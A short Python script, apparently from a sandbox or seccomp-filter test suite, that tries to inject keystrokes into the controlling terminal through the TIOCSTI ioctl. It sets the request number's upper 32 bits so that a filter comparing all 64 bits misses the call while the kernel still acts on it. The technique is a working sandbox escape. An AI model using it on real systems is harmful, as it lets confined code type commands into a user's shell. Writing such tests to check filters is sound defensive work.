# The kernel looks at the low 32 bits of the request; a filter might compare all 64.
import fcntl
import os
import termios

from calls import call
from inside import run, show


def attack(target):
    try:
        os.setsid()
    except OSError:
        pass  # already at the head of a session
    try:
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)  # only root may type into a terminal that is not its own
    except OSError:
        pass
    for byte in target.typed.encode() + b"\n":
        call("ioctl", 0, (1 << 32) | termios.TIOCSTI, bytes([byte]))
    show(os.read(0, 100))


run(attack)
